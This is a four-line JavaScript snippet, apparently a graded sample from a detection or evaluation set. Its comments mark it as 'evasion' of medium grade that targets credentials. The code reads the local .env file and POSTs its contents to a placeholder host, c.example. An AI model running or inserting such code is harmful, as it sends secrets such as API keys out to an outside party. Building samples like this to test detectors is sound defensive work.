// evasion: reads .env and posts it
// grade: medium; does: credentials
const fs = require("fs");
fetch("https://c.example/", { method: "POST", body: fs.readFileSync(".env", "utf8") });
